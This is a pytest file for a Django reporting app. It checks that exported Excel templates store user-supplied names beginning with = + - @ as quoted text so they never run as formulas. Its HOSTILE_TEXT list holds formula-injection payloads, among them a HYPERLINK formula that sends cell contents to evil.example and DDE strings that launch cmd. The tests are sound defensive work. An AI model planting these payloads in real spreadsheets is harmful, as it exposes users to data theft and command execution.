"""Workbooks the app writes show users' words as text: nothing starting with = + - @ runs as a formula
(issue 8, finding 8). Each template is downloaded through the real pages and opened again."""

from __future__ import annotations

import io
import re
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from kechuang.common.spreadsheets import workbook_bytes

SRC = Path(__file__).resolve().parents[2] / "src" / "kechuang"
HOSTILE_TEXT = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]


def _cells(data: bytes) -> dict[str, object]:
    """Every non-empty cell of the file as opened by Excel's reader (no formulas evaluated)."""
    wb = load_workbook(io.BytesIO(data))
    return {c.value: c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None}


def _assert_text(cell) -> None:
    assert cell.data_type == "s", (cell.coordinate, cell.value, cell.data_type)
    assert cell.quotePrefix, (cell.coordinate, cell.value)  # Excel keeps it text when someone edits it


def test_formula_like_strings_are_written_as_text_and_numbers_stay_numbers():
    wb = Workbook()
    for text in HOSTILE_TEXT:
        wb.active.append([text, -5, "普通文字"])

    sheet = load_workbook(io.BytesIO(workbook_bytes(wb))).active

    for row, text in enumerate(HOSTILE_TEXT, start=1):
        cell = sheet.cell(row=row, column=1)
        assert (
            cell.value.strip() == text.strip()
        )  # XML keeps a leading tab; a lone CR reads back as a newline
        _assert_text(cell)
        assert (sheet.cell(row=row, column=2).data_type, sheet.cell(row=row, column=2).value) == ("n", -5)
        assert not sheet.cell(row=row, column=3).quotePrefix


@pytest.mark.django_db
def test_the_monthly_report_template_shows_a_carrier_named_like_a_formula_as_text(
    client, shanghai, django_user_model
):
    from kechuang.collection.domain import active_form, open_report
    from kechuang.registry.models import Carrier
    from kechuang.tenancy.models import Membership, Role

    name = HOSTILE_TEXT[0]
    carrier = Carrier.objects.create(name=name, kind="incubator", level="national", area=shanghai["town"])
    operator = django_user_model.objects.create_user("operator", "operator@example.org")
    Membership.objects.create(
        user=operator, role=Role.CARRIER_OPERATOR, area=shanghai["town"], carrier=carrier
    )
    report = open_report(carrier=carrier, period="2025-05", form=active_form())[0]
    client.force_login(operator)

    response = client.get(f"/collection/reports/{report.pk}/template.xlsx")

    cell = load_workbook(io.BytesIO(response.content))["月报"]["B2"]
    assert cell.value == name
    _assert_text(cell)


@pytest.mark.django_db
def test_the_observation_template_shows_indicators_units_and_areas_named_like_formulas_as_text(
    admin_client, shanghai
):
    from kechuang.plans.models import Indicator, Plan
    from kechuang.tenancy.models import Area

    plan = Plan.objects.create(title="规划", area=shanghai["jinshan"], period_start=2024, period_end=2026)
    Indicator.objects.create(plan=plan, name=HOSTILE_TEXT[0], unit="+5", position=1)
    Indicator.objects.create(plan=plan, name=HOSTILE_TEXT[2], unit="@x", position=2)
    Area.objects.create(code="310116099", name=HOSTILE_TEXT[3], kind="town", parent=shanghai["jinshan"])

    response = admin_client.get(f"/observations/plans/{plan.pk}/template.xlsx")

    cells = _cells(response.content)
    for text in (HOSTILE_TEXT[0], "+5", HOSTILE_TEXT[2], "@x", HOSTILE_TEXT[3]):
        _assert_text(cells[text])


def test_every_workbook_the_app_writes_is_saved_through_workbook_bytes():
    """A new writer that calls ``wb.save`` itself would write users' formulas live."""
    writers = []
    for path in SRC.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if "xlsxwriter.Workbook(" in text:
            # XlsxWriter (the many small public downloads): strings only through write_string, which
            # never makes a formula, with the quote prefix for those Excel would run once edited.
            writers.append(path.relative_to(SRC).as_posix())
            assert "FORMULA_START" in text and "quote_prefix" in text, path
            assert not re.search(r"\.write\(", text), path
            continue
        if "Workbook(" in text:
            writers.append(path.relative_to(SRC).as_posix())
            assert "workbook_bytes(" in text, path
            assert (
                not re.search(r"\bwb\.save\(|\bworkbook\.save\(", text) or path.name == "spreadsheets.py"
            ), path

    assert {"collection/excel.py", "observations/imports/template.py", "registry/imports/template.py"} <= set(
        writers
    )
